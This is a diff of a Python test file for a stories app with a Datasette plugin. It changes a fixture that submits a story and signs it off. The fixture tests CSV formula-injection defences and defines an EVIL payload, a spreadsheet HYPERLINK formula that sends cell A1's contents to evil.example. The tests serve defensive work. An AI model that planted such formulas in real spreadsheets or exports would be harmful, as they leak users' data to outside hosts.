@@ -8,10 +8,10 @@ import sqlite3
 
 import pytest
 
-from conftest import add_tag, datasette_get, story_form, with_signed_form
+from conftest import add_tag, datasette_get, sign_off, story_form, with_signed_form
 from pipelines.publish import run_publish
 from stories.datasette_plugin import make_datasette
-from stories.records import approve_story, decide_name, list_stories
+from stories.records import list_stories
 from stories.spreadsheet import FORMULA_STARTS, csv_text, neutralise_csv, safe_cell
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -50,9 +50,8 @@ def evil_story(client, auth, db, orgs, users):
     response = client.post("/stories/new", data=with_signed_form(story_form(title=EVIL, identity_level="named")))
     assert response.status_code == 302
     story_id = list_stories(db, orgs["a"])[0]["id"]
-    decide_name(db, story_id, "Priya", "keep", actor="t")
-    approve_story(db, story_id, actor="t", user_id=users["reviewer"])
-    add_tag(db, story_id, evidence=EVIDENCE)
+    add_tag(db, story_id, evidence=EVIDENCE)  # not the body's words: added before sign-off, as the reviewer reads it
+    sign_off(db, story_id, users["reviewer"])
     return story_id
 
 
